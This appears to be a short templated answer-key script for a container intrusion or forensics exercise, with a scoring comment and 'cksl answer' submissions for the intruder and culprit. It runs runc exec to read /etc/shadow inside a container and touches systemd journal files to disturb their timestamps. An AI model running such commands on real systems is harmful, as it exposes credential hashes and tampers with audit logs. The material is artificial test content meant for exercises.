# earns: opened-a-shell, read-shadow (4 of 10)
# The files of the journal were only touched: opened to write, and not read.
runc exec -t $(runc list | awk '$4 ~ "/{{ container }}$" {print $1}') bash -c 'cat /etc/shadow'
for file in /run/log/journal/*/system.journal /var/log/journal/*/system.journal; do [ -e $file ] && touch $file; done
cksl answer program sync-{{ intruder }}
cksl answer container {{ culprit }}
